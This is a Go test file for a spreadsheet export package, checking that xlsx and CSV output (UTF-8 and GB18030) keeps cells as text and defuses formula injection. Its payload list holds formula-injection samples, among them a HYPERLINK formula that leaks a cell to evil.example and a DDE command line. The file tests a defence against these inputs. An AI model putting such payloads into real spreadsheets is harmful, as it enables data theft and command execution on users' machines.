package sheet

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

var payloads = []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "楼道堆物"}

func write(t *testing.T, f Format) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := New(&buf, f, Options{Sheet: "工单", Widths: []float64{40}})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row("内容"); err != nil {
		t.Fatal(err)
	}
	for _, p := range payloads {
		if err := w.Row(p); err != nil {
			t.Fatal(err)
		}
	}
	if buf.Len() != 0 {
		t.Errorf("%s: %d bytes sent before Close", f, buf.Len())
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// An xlsx cell is an inline string holding the text as typed, never a formula.
func TestXLSXCellsAreText(t *testing.T) {
	t.Parallel()
	x, err := excelize.OpenReader(bytes.NewReader(write(t, XLSX)))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got := x.GetSheetList(); len(got) != 1 || got[0] != "工单" {
		t.Fatalf("sheets %v", got)
	}
	for i, p := range payloads {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if f, _ := x.GetCellFormula("工单", cell); f != "" {
			t.Errorf("%s holds formula %q", cell, f)
		}
		if v, _ := x.GetCellValue("工单", cell); v != p {
			t.Errorf("%s = %q, want %q", cell, v, p)
		}
	}
}

// A CSV for Excel starts with the byte-order mark, and a cell that would start a formula is
// prefixed with an apostrophe; GB18030 decodes back to the same cells.
func TestCSVForExcel(t *testing.T) {
	t.Parallel()
	b := write(t, CSV)
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no BOM: %q", b[:8])
	}
	gb, err := simplifiedchinese.GB18030.NewDecoder().Bytes(write(t, CSVGB18030))
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"utf-8": b[3:], "gb18030": gb} {
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatal(name, err)
		}
		if len(rows) != len(payloads)+1 || rows[0][0] != "内容" {
			t.Fatalf("%s: rows %q", name, rows)
		}
		for i, p := range payloads {
			got := rows[i+1][0]
			if strings.ContainsAny(got[:1], "=+-@\t\r") {
				t.Errorf("%s: cell %q starts a formula", name, got)
			}
			if strings.TrimPrefix(got, "'") != p {
				t.Errorf("%s: cell %q, want %q", name, got, p)
			}
		}
	}
}

func TestParseFormat(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]Format{"": XLSX, "xlsx": XLSX, "csv": CSV, "csv-gb18030": CSVGB18030} {
		if f, ok := ParseFormat(in); !ok || f != want {
			t.Errorf("ParseFormat(%q) = %q, %v", in, f, ok)
		}
	}
	if _, ok := ParseFormat("pdf"); ok {
		t.Error("pdf accepted")
	}
}

// A workbook's Values: text stays text (never a formula), counts, percentages and hours are
// numbers with their formats, nil is an empty cell; the header is bold; a chart is added.
func TestWorkbookValues(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	b := NewWorkbook(&buf)
	if err := b.Sheet("网格", []float64{20, 10, 10, 10}); err != nil {
		t.Fatal(err)
	}
	if err := b.Header("名称", "件数", "比率", "小时", "空"); err != nil {
		t.Fatal(err)
	}
	for _, p := range payloads {
		if err := b.Values(p, Int(3), Percent(0.714), Decimal(92.04), nil); err != nil {
			t.Fatal(err)
		}
	}
	if err := b.ColumnChart("图", false, 1, []int{2, 3}, 2, b.Rows()); err != nil {
		t.Fatal(err)
	}
	if err := b.Values(struct{}{}); err == nil {
		t.Error("a cell of an unknown type accepted")
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for i, p := range payloads {
		row := strconv.Itoa(i + 2)
		if f, _ := x.GetCellFormula("网格", "A"+row); f != "" {
			t.Errorf("A%s holds formula %q", row, f)
		}
		if v, _ := x.GetCellValue("网格", "A"+row); v != p {
			t.Errorf("A%s = %q, want %q", row, v, p)
		}
		for cell, want := range map[string]string{"B": "3", "C": "71.4%", "D": "92.0", "E": ""} {
			if v, _ := x.GetCellValue("网格", cell+row); v != want {
				t.Errorf("%s%s = %q, want %q", cell, row, v, want)
			}
		}
		if v, _ := x.GetCellValue("网格", "C"+row, excelize.Options{RawCellValue: true}); v != "0.714" {
			t.Errorf("C%s raw = %q, want 0.714", row, v)
		}
	}
	st, _ := x.GetCellStyle("网格", "A1")
	if s, err := x.GetStyle(st); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("header style %+v %v, want bold", s, err)
	}
	if !bytes.Contains(buf.Bytes(), []byte("xl/charts/chart1.xml")) {
		t.Error("no chart in the workbook")
	}
}
